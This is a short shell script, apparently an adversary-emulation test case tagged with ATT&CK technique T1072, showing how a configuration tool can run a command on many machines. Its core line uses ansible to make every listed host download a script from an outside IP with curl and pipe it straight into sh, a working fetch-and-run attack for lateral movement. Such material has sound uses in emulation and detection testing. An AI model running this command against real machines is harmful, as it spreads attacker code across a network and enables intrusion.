# title: The tool that sets up all machines is used to run a command on all
# technique: T1072
# needs: ansible

printf '10.20.0.9\n10.20.0.10\n' >/tmp/hosts
timeout 20 ansible all -i /tmp/hosts -m shell -a 'curl -s http://192.88.99.7/x.sh | sh'; true
